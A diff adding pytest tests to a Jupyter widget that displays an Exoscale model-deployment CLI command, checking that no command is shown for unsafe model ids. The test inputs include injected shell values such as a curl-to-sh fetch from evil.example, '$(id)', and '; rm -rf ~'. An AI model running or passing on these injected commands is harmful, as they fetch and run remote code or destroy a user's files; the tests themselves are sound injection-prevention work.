@@ -245,6 +245,28 @@ def test_cli_command_never_contains_the_token(sb):
     assert DEMO.hf_write_token not in widget.cli.value and widget.cli.layout.display == ""
 
 
+@pytest.mark.parametrize("model_id", ["org/m;curl https://evil.example/x | sh", "org/m $(id)", "https://hf.co/org/m",
+                                      "org/m\nexo iam delete", ""])
+def test_no_cli_command_is_shown_for_an_id_no_command_should_carry(sb, model_id):
+    from jupyter_exo_models.notebook.render import exo_command
+
+    assert exo_command(model_id, "de-fra-1") is None
+    widget = checked(model_id)
+    widget.cli_toggle.value = True
+    assert "<pre>" not in widget.cli.value and "valid model id" in widget.cli.value
+
+
+def test_the_cli_command_is_one_shell_word_per_argument():
+    import shlex
+
+    from jupyter_exo_models.notebook.render import exo_command
+
+    command = exo_command(DEMO.tiny, "de-fra-1")
+    assert shlex.split(command) == ["exo", "dedicated-inference", "model", "create", DEMO.tiny,
+                                    "--huggingface-token", "$HF_TOKEN", "-z", "de-fra-1"]
+    assert '"$HF_TOKEN"' in command and exo_command(DEMO.tiny, "de-fra-1; rm -rf ~") is None
+
+
 # -- login ---------------------------------------------------------------------------------------------
 def test_login_skips_in_one_line_when_valid(sb, capsys):
     check = login()
